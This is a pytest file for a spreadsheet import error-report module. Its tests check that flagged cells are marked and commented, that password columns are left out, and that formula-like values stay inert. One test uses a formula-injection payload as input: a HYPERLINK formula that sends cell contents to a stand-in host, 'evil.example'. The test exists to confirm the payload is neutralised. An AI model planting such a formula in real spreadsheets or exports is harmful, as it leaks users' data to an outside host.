"""The error workbook of an import: the values the reader returned, bad cells marked, nothing parsed again."""

import io

from openpyxl import Workbook, load_workbook

from lantian.core.excel.reading import Sheet
from lantian.core.excel.report import ERROR_FILL, RowError, marked_workbook


def xlsx(*rows) -> bytes:
    workbook = Workbook()
    for row in rows:
        workbook.active.append(row)
    buffer = io.BytesIO()
    workbook.save(buffer)
    return buffer.getvalue()


def report_of(sheet, errors, hidden=()):
    workbook = load_workbook(io.BytesIO(marked_workbook(sheet, errors, hidden)))
    return workbook[workbook.sheetnames[0]], workbook[workbook.sheetnames[1]]


def test_the_copy_holds_the_values_the_reader_returned_not_a_second_parse_of_the_upload():
    # The upload's bytes say one thing; the report must show what the (bounded, isolated) reader read.
    upload = xlsx(["名称"], ["上传文件里的值"])
    sheet = Sheet("a.xlsx", "xlsx", upload, 1, ["名称"], [(2, ["读到的值"])])
    data, _listing = report_of(sheet, [RowError(2, "名称", "读到的值", "不对", 0)])
    assert data["A2"].value == "读到的值"


def test_bad_cells_are_marked_and_commented_in_their_place_and_listed():
    rows = [(2, ["A1", "secret", "甲"]), (5, ["A2", "x", "乙"])]
    sheet = Sheet("a.csv", "csv", b"", 1, ["编码", "密码", "名称"], rows)
    errors = [RowError(5, "名称", "乙", "名称重复", 2), RowError(5, "备注", None, "缺少备注", 3)]
    data, listing = report_of(sheet, errors, hidden=[1])
    assert [c.value for c in data[1]][:3] == ["编码", "密码", "名称"]
    assert data["B2"].value is None and data["B5"].value is None  # passwords are not copied
    assert data["A3"].value is None and data["A5"].value == "A2"  # blank rows keep their place
    assert data["C5"].fill.fgColor.rgb.endswith(ERROR_FILL.fgColor.rgb[-6:])
    assert "名称重复" in data["C5"].comment.text
    assert "缺少备注" in data["D5"].comment.text  # an error beyond the row's last cell is still marked
    assert [c.value for c in listing[2]] == [5, "名称", "乙", "名称重复"]


def test_formula_like_values_and_control_characters_stay_inert_text():
    hostile = '=HYPERLINK("http://evil.example/?d="&B2,"查看详情")'
    sheet = Sheet("a.csv", "csv", b"", 1, ["名称"], [(2, [hostile]), (3, ["苯\x01\x1b"])])
    data, listing = report_of(sheet, [RowError(2, "名称", hostile, "不对", 0)])
    for cell in [*data["A"], *listing["C"]]:
        assert cell.data_type != "f"
    assert data["A2"].value == "'" + hostile
    assert data["A3"].value == "苯"
